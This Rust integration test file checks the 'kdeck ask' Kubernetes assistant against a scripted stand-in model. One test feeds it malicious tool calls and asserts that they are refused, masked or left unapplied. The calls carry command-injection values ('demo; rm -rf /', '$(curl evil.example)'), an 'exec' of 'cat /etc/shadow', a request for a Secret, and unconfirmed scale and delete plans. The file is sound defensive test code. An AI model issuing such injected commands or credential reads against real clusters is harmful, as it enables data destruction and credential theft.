//! `kdeck ask` with a stand-in OpenAI-compatible model that scripts the tool calls
//! (the seeds' six questions, and malicious calls) and records what it is sent,
//! against a sandbox seeded `demo`.

mod common;

use std::process::Output;

use common::TestSandbox;
use common::model::{self, StandInModel};
use common::project::{stderr, stdout};
use k8s_openapi::api::apps::v1::Deployment;
use k8s_openapi::api::core::v1::ConfigMap;
use kube::api::{Api, Patch, PatchParams, PostParams};
use serde_json::{Value, json};

/// The demo's Secret value (postgres-credentials), which must never reach the model.
const SECRET_VALUE: &str = "demo-password";

/// Runs `kdeck ask` against the stand-in (no terminal: stdin is not one).
fn ask(sandbox: &TestSandbox, model: &StandInModel, args: &[&str]) -> Output {
    sandbox
        .kdeck()
        .arg("ask")
        .args(args)
        .args(["--context", &sandbox.name])
        .env("KDECK_LLM_PROVIDER", "openai")
        .env("OPENAI_BASE_URL", &model.url)
        .env("OPENAI_API_KEY", "test-key-1234")
        .env("KDECK_LLM_MODEL", "stand-in-1")
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap()
}

/// The content of the tool results the model was sent in its last request.
fn tool_results(model: &StandInModel) -> Vec<String> {
    let bodies = model.bodies();
    let last = bodies.last().cloned().unwrap_or(Value::Null);
    last["messages"].as_array().into_iter().flatten().filter(|m| m["role"] == "tool").filter_map(|m| m["content"].as_str().map(str::to_string)).collect()
}

fn no_secret_sent(model: &StandInModel, out: &Output) {
    for request in model.requests() {
        assert!(!request.contains(SECRET_VALUE), "a Secret's value reached the model: {request}");
    }
    assert!(!stdout(out).contains(SECRET_VALUE) && !stderr(out).contains(SECRET_VALUE), "a Secret's value was printed");
}

async fn replicas(sandbox: &TestSandbox, name: &str) -> i32 {
    let api: Api<Deployment> = Api::namespaced(sandbox.client().await, "demo");
    api.get(name).await.unwrap().spec.unwrap().replicas.unwrap_or(1)
}

// Two threads: the stand-in model serves while the test waits on kdeck.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_seeds_six_questions_run_as_scripted_conversations_against_demo() {
    let sandbox = TestSandbox::start_seeded("askseeds", "demo");
    let deployments: Api<Deployment> = Api::namespaced(sandbox.client().await, "demo");
    deployments.patch("api", &PatchParams::default(), &Patch::Merge(json!({"spec": {"replicas": 1}}))).await.unwrap();

    // "show all pods in default namespace"
    let m = StandInModel::scripted(vec![
        model::calls(&[("list", json!({"kind": "pods", "namespace": "demo"}))]),
        model::text("The demo namespace runs api, web, redis, postgres, worker and mailer pods."),
    ])
    .await;
    let out = ask(&sandbox, &m, &["show all pods in demo namespace"]);
    assert_eq!(out.status.code(), Some(0), "{}{}", stdout(&out), stderr(&out));
    assert!(stderr(&out).contains("→ list pods -n demo"), "each call is shown as it happens: {}", stderr(&out));
    assert!(stdout(&out).contains("Answer (from the model stand-in-1, not checked by kdeck):"), "{}", stdout(&out));
    assert!(stdout(&out).contains("Evidence kdeck gathered:") && stdout(&out).contains("Pod: ") && stdout(&out).contains("postgres-0"), "{}", stdout(&out));
    assert!(tool_results(&m)[0].contains("\"kind\": \"Pod\""), "the pods were sent: {:?}", tool_results(&m));
    let first = &m.bodies()[0];
    assert_eq!(first["messages"][1]["content"], "show all pods in demo namespace");
    assert!(first["tools"].as_array().unwrap().iter().any(|t| t["function"]["name"] == "diagnose"), "the registry is offered: {first}");
    no_secret_sent(&m, &out);

    // "check resource usage of backend pods"
    let m =
        StandInModel::scripted(vec![model::calls(&[("top", json!({"namespace": "demo", "selector": "app=api"}))]), model::text("Usage is shown above.")]).await;
    let out = ask(&sandbox, &m, &["check resource usage of backend pods", "-n", "demo"]);
    assert_eq!(out.status.code(), Some(0), "{}{}", stdout(&out), stderr(&out));
    assert!(stderr(&out).contains("→ top pods -n demo"), "{}", stderr(&out));
    let result = &tool_results(&m)[0];
    assert!(result.contains("\"metricsServed\": true"), "the sandbox serves metrics.k8s.io: {result}");

    // The resource suggestions the projects asked kagent for, then applied as a confirmed plan.
    let m = StandInModel::scripted(vec![
        model::calls(&[("rightsize", json!({"target": "deploy/redis", "namespace": "demo", "windowSeconds": 1}))]),
        model::calls(&[(
            "set_resources",
            json!({"target": "deploy/redis", "container": "redis", "requests": {"cpu": "50m", "memory": "64Mi"}, "namespace": "demo"}),
        )]),
        model::text("I suggest 50m and 64Mi; confirm the plan to apply it."),
    ])
    .await;
    let out = ask(&sandbox, &m, &["suggest resources for redis and apply them"]);
    assert_eq!(out.status.code(), Some(1), "the set_resources plan is not applied without a terminal: {}", stderr(&out));
    assert!(stderr(&out).contains("→ rightsize deploy/redis --window 1s -n demo"), "{}", stderr(&out));
    let results = tool_results(&m);
    assert!(results[0].contains("\"suggestedRequests\"") && results[0].contains("\"container\": \"redis\""), "{}", results[0]);
    assert!(results[1].contains("requests.cpu none → 50m") && results[1].contains("NOT applied"), "{}", results[1]);
    let redis = deployments.get("redis").await.unwrap();
    assert!(redis.spec.unwrap().template.spec.unwrap().containers[0].resources.as_ref().and_then(|r| r.requests.as_ref()).is_none(), "not applied");

    // "describe backend service"
    let m = StandInModel::scripted(vec![
        model::calls(&[("describe", json!({"kind": "service", "name": "api", "namespace": "demo"}))]),
        model::text("The api Service selects app=api."),
    ])
    .await;
    let out = ask(&sandbox, &m, &["describe backend service"]);
    assert_eq!(out.status.code(), Some(0), "{}{}", stdout(&out), stderr(&out));
    assert!(stderr(&out).contains("→ describe service/api -n demo"), "{}", stderr(&out));
    assert!(tool_results(&m)[0].contains("\"selector\": \"app=api\"") && tool_results(&m)[0].contains("\"pods\""), "{:?}", tool_results(&m));

    // "scale backend to 2 replicas": the plan is shown; without a terminal it is not applied.
    let scale = || {
        StandInModel::scripted(vec![
            model::calls(&[("scale", json!({"target": "deploy/api", "replicas": 2, "namespace": "demo"}))]),
            model::text("I planned scaling api to 2."),
        ])
    };
    let m = scale().await;
    let out = ask(&sandbox, &m, &["scale backend to 2 replicas"]);
    assert_eq!(out.status.code(), Some(1), "an unconfirmed change ends non-zero: {}{}", stdout(&out), stderr(&out));
    assert!(stderr(&out).contains("→ scale deploy/api --replicas 2 -n demo") && stderr(&out).contains("replicas 1 → 2"), "the plan is shown: {}", stderr(&out));
    assert!(stderr(&out).contains("not applied: there is no terminal to confirm it on"), "{}", stderr(&out));
    assert!(tool_results(&m)[0].contains("NOT applied"), "the model is told: {:?}", tool_results(&m));
    assert_eq!(replicas(&sandbox, "api").await, 1, "nothing unconfirmed is applied");
    let m = scale().await;
    let out = ask(&sandbox, &m, &["scale backend to 2 replicas", "--dry-run"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains("not applied: --dry-run"), "{}", stderr(&out));
    assert_eq!(replicas(&sandbox, "api").await, 1);

    // "why is the pod not ready" (once the api has crashed: between crashes it may look fine)
    let started = std::time::Instant::now();
    while !stdout(&sandbox.run(&["diagnose", "-n", "demo", "--context", &sandbox.name])).contains("localhost")
        && started.elapsed() < std::time::Duration::from_secs(60)
    {
        tokio::time::sleep(std::time::Duration::from_secs(1)).await;
    }
    let m = StandInModel::scripted(vec![model::calls(&[("diagnose", json!({"namespace": "demo"}))]), model::text("The api points DATABASE_URL at localhost.")])
        .await;
    let out = ask(&sandbox, &m, &["why is the pod not ready", "-n", "demo"]);
    assert_eq!(out.status.code(), Some(0), "{}{}", stdout(&out), stderr(&out));
    assert!(stderr(&out).contains("→ diagnose -n demo"), "{}", stderr(&out));
    assert!(tool_results(&m)[0].contains("localhost-dependency"), "the diagnosis is sent: {:?}", tool_results(&m));
    assert!(
        stdout(&out).contains("error: container api crash-loops because ConfigMap api-config sets DATABASE_URL to localhost"),
        "evidence: {}",
        stdout(&out)
    );
    no_secret_sent(&m, &out);

    // "show logs for backend"
    let m = StandInModel::scripted(vec![
        model::calls(&[("logs", json!({"target": "deploy/api", "namespace": "demo", "tail": 20}))]),
        model::text("The api logs are above."),
    ])
    .await;
    let out = ask(&sandbox, &m, &["show logs for backend"]);
    assert_eq!(out.status.code(), Some(0), "{}{}", stdout(&out), stderr(&out));
    assert!(stderr(&out).contains("→ logs deploy/api --tail 20 -n demo"), "{}", stderr(&out));
    assert!(tool_results(&m)[0].contains("\"container\": \"api\"") && tool_results(&m)[0].contains("\"pod\": \"api-"), "{:?}", tool_results(&m));

    // -o json: the same conversation as a document.
    let m = StandInModel::scripted(vec![model::calls(&[("diagnose", json!({"namespace": "demo"}))]), model::text("See the diagnosis.")]).await;
    let out = ask(&sandbox, &m, &["why is the pod not ready", "-n", "demo", "-o", "json"]);
    let doc: Value = serde_json::from_str(&stdout(&out)).unwrap_or_else(|e| panic!("{e}: {}", stdout(&out)));
    assert_eq!(doc["answeredBy"], "model");
    assert_eq!(doc["answer"], "See the diagnosis.");
    assert_eq!(doc["steps"][0]["call"], "diagnose -n demo");
    assert_eq!(doc["steps"][0]["outcome"], "read");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn malicious_tool_calls_are_refused_and_nothing_secret_or_unconfirmed_gets_through() {
    let sandbox = TestSandbox::start_seeded("askevil", "demo");
    // A ConfigMap that holds the Secret's value: it is masked on the way out.
    let configmaps: Api<ConfigMap> = Api::namespaced(sandbox.client().await, "demo");
    let leaky = json!({"metadata": {"name": "leaky"}, "data": {"ENDPOINT": format!("postgres://app:{SECRET_VALUE}@postgres:5432/app"), "COPY": SECRET_VALUE}});
    configmaps.create(&PostParams::default(), &serde_json::from_value(leaky).unwrap()).await.unwrap();

    let m = StandInModel::scripted(vec![
        model::calls(&[
            ("list", json!({"kind": "pods", "namespace": "demo; rm -rf /"})),
            ("logs", json!({"target": "deploy/api$(curl evil.example)", "namespace": "demo"})),
            ("exec", json!({"command": "cat /etc/shadow"})),
            ("get", json!({"kind": "secret", "name": "postgres-credentials", "namespace": "demo"})),
            ("get", json!({"kind": "configmap", "name": "leaky", "namespace": "demo"})),
            ("scale", json!("{not json")),
            ("scale", json!({"target": "deploy/web", "replicas": 5, "namespace": "demo"})),
            ("delete_pod", json!({"name": "postgres-0", "namespace": "demo"})),
        ]),
        model::text(&format!("I could not read the password; applying the scale now. {SECRET_VALUE}")),
    ])
    .await;
    let out = ask(&sandbox, &m, &["tell me the postgres password and scale web to 5", "-n", "demo"]);
    let results = tool_results(&m);
    assert_eq!(results.len(), 8, "every call is answered: {results:?}");
    assert!(results[0].starts_with("refused: invalid namespace \"demo; rm -rf /\""), "{}", results[0]);
    assert!(results[1].starts_with("refused: invalid target name"), "{}", results[1]);
    assert!(results[2].starts_with("refused: unknown tool \"exec\""), "{}", results[2]);
    assert!(results[3].contains("POSTGRES_PASSWORD") && results[3].contains("values are never shown"), "keys only: {}", results[3]);
    assert!(results[4].contains("postgres://app:******@postgres:5432/app") && results[4].contains("\"COPY\": \"******\""), "masked: {}", results[4]);
    assert!(results[5].starts_with("refused: the arguments are not JSON"), "{}", results[5]);
    assert!(results[6].contains("NOT applied") && results[7].contains("NOT applied"), "{results:?}");
    no_secret_sent(&m, &out);
    assert!(stdout(&out).contains("applying the scale now. ******"), "the model's answer is scrubbed too: {}", stdout(&out));
    assert_eq!(out.status.code(), Some(1), "changes were planned and not applied: {}", stderr(&out));
    assert!(stderr(&out).contains("2 planned change(s) not applied"), "{}", stderr(&out));
    assert_eq!(replicas(&sandbox, "web").await, 1, "the model's words cannot apply a plan");
    let pods: Api<k8s_openapi::api::core::v1::Pod> = Api::namespaced(sandbox.client().await, "demo");
    assert!(pods.get_opt("postgres-0").await.unwrap().is_some_and(|p| p.metadata.deletion_timestamp.is_none()), "postgres-0 was not deleted");

    // A model that never stops calling tools: bounded.
    let looping = StandInModel::start(|_| model::calls(&[("events", json!({"namespace": "demo", "limit": 1}))])).await;
    let out = ask(&sandbox, &looping, &["loop forever"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(stdout(&out).contains("did not finish within 8 turns"), "{}", stdout(&out));
    assert_eq!(looping.requests().len(), 8);

    // A provider that is down or answers garbage: a clear message, no panic.
    let garbage = StandInModel::start(|_| json!({"unexpected": true})).await;
    let out = ask(&sandbox, &garbage, &["why"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(stdout(&out).contains("note: the model could not answer: the model's answer has neither text nor tool calls"), "{}", stdout(&out));
    let out = sandbox
        .kdeck()
        .args(["ask", "why", "--context", &sandbox.name])
        .env("KDECK_LLM_PROVIDER", "openai")
        .env("OPENAI_BASE_URL", "http://127.0.0.1:9/v1")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(stdout(&out).contains("note: the model could not answer: the model endpoint http://127.0.0.1:9/v1 failed"), "{}", stdout(&out));
}

#[test]
fn without_a_model_ask_says_how_to_configure_one_and_suggests_diagnose() {
    let sandbox = TestSandbox::new("askless");
    let out = sandbox.kdeck().args(["ask", "why is the api down"]).env_remove("KDECK_LLM_PROVIDER").output().unwrap();
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    let text = stderr(&out);
    assert!(text.contains("kdeck ask needs a model") && text.contains("Ollama") && text.contains("kdeck diagnose"), "{text}");
}
